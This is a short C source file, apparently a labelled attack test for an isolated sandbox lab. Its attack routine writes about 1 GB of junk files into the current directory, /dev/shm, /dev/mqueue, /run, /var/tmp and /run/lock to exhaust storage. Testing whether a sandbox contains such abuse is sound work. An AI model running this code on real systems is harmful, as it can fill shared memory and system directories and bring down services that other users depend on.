/* Attack: fills every folder it can write to, at most 1 GB in each.
 * Labs: 03
 * Isolated: yes */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void fill(const char *folder)
{
    static char chunk[1 << 20];

    for (int i = 0; i < 20; i++) {
        char name[200];
        int file;

        snprintf(name, sizeof name, "%s/attack.%d", folder, i);
        file = open(name, O_CREAT | O_WRONLY, 0644);
        for (int written = 0; file != -1 && written < 50; written++)
            if (write(file, chunk, sizeof chunk) <= 0)
                break;
    }
}

static void attack(void)
{
    fill(".");
    fill("/dev/shm");
    fill("/dev/mqueue");
    fill("/run");
    fill("/var"
         "/tmp");
    fill("/run/lock");
}
